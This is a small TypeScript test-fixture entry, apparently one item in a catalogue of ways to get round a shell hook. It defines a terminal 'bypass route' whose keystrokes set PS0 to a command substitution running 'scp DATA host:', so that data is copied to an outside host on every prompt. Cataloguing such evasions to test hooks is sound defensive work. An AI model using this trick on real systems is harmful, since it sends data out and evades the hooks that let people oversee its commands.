import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'PS0',
  source: 'attempts to get round a hook of the shell',
  keys: ["PS0='$(scp DATA host:)'\r", 'true\r'],
};
